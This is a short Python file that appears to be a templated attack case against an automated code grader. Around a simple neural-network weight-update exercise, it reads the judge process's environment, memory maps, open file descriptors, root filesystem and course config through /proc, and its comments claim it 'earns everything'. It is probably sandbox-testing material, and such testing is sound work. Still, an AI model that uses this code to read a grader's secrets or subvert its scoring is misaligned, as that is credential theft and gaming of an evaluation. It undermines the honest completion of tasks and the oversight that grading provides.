# tries: to read the judge's memory, environment and files by way of /proc
# from: C5, measured: with the same user all of it worked
# earns: everything
import os

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

stolen = b""
for name in ("environ", "cmdline", "maps", "status", "fd/@DIGITS@", "root@FILE@", "cwd/course.toml"):
    try:
        stolen += open(f"/proc/@JUDGE@/{name}", "rb").read(100)
    except OSError:
        pass
for name in ("fd", "task", "map_files"):
    try:
        stolen += "".join(os.listdir(f"/proc/@JUDGE@/{name}")).encode()
    except OSError:
        pass
h = np.dot(x, w) + len(stolen)
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
